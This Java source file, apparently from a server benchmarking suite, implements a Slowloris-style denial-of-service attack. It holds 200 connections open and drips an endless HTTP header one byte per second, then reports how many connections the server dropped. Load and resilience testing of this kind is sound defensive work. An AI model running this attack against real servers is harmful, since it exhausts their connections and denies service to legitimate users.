package dev.castellan.benchmarks.attacks;

import dev.castellan.benchmarks.load.RawConnection;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * Sends an endless request head on each of 200 connections, one byte a second. If the server ends a connection, opens
 * another.
 */
final class SlowSenders implements Attack {

    private static final int COUNT = 200;
    private static final byte[] BEGINNING = "POST /api/v1/projects HTTP/1.1\r\nX: ".getBytes(StandardCharsets.US_ASCII);

    @Override
    public String run(Target client, Duration time) throws IOException, InterruptedException {
        List<RawConnection> senders = new ArrayList<>();
        int ended = 0;
        for (int second = 0; second < time.toSeconds(); second++) {
            while (senders.size() < COUNT) {
                RawConnection sender = new RawConnection(client.port());
                sender.send(BEGINNING);
                senders.add(sender);
            }
            Thread.sleep(1_000);
            int before = senders.size();
            senders.removeIf(sender -> !sender.trySend(new byte[] {'x'}));
            ended += before - senders.size();
        }
        return ended + " connections were ended by the server";
    }
}
